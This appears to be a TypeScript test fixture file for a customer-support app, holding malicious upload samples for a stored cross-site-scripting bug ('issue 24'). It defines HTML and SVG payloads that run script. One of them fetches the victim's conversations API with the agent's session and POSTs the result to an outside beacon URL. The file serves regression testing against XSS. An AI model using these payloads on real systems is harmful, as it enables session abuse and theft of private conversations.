/** Files that caused issue 24: a customer's HTML "document" and SVG "image" that run script, and a real image. */
/** Sets a global and calls the API with the agent's session, if it ever runs. */
export const HTML_PAGE =
  '<!doctype html><html><body><h1>Boleto</h1><script>window.__xss = true; fetch("/api/conversations")</script></body></html>';
export const SVG_WITH_SCRIPT =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=true"><script>window.__xss = true</script><circle r="5"/></svg>';
/** A real 1×1 PNG. */
export const PNG_1PX = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** An HTML page that, if it ever runs, sets a global and calls `beacon` (a recorder outside Janela) and the API. */
export function beaconHtml(beacon: string): string {
  return `<!doctype html><html><body><h1>Boleto</h1><script>window.__xss = true; fetch(${JSON.stringify(`${beacon}?from=html-script`)}, { mode: 'no-cors' }); fetch('/api/conversations').then((r) => r.text()).then((t) => fetch(${JSON.stringify(`${beacon}?from=html-api`)}, { method: 'POST', body: t, mode: 'no-cors' }))</script><img src=${JSON.stringify(`${beacon}?from=html-img`)}></body></html>`;
}

/** An SVG image that, if it ever runs, sets a global and calls `beacon`. */
export function beaconSvg(beacon: string): string {
  return `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=true; fetch('${beacon}?from=svg-onload', { mode: 'no-cors' })"><script>window.__xss = true; fetch('${beacon}?from=svg-script', { mode: 'no-cors' })</script><image href="${beacon}?from=svg-image" width="1" height="1"/></svg>`;
}
